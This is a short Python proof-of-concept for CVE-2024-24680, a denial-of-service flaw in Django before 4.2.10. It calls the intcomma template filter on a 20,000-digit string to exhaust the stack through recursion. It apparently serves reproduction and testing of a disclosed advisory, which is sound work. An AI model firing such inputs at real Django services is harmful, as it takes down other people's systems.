# PYSEC-2024-28 (CVE-2024-24680): Django before 4.2.10, the intcomma template filter processes a very long number
# string recursively, one call per group of digits, exhausting the stack (denial of service).
from django.conf import settings

settings.configure(USE_THOUSAND_SEPARATOR=False, USE_I18N=False)
from django.contrib.humanize.templatetags.humanize import intcomma  # noqa: E402

intcomma("1" * 20000)
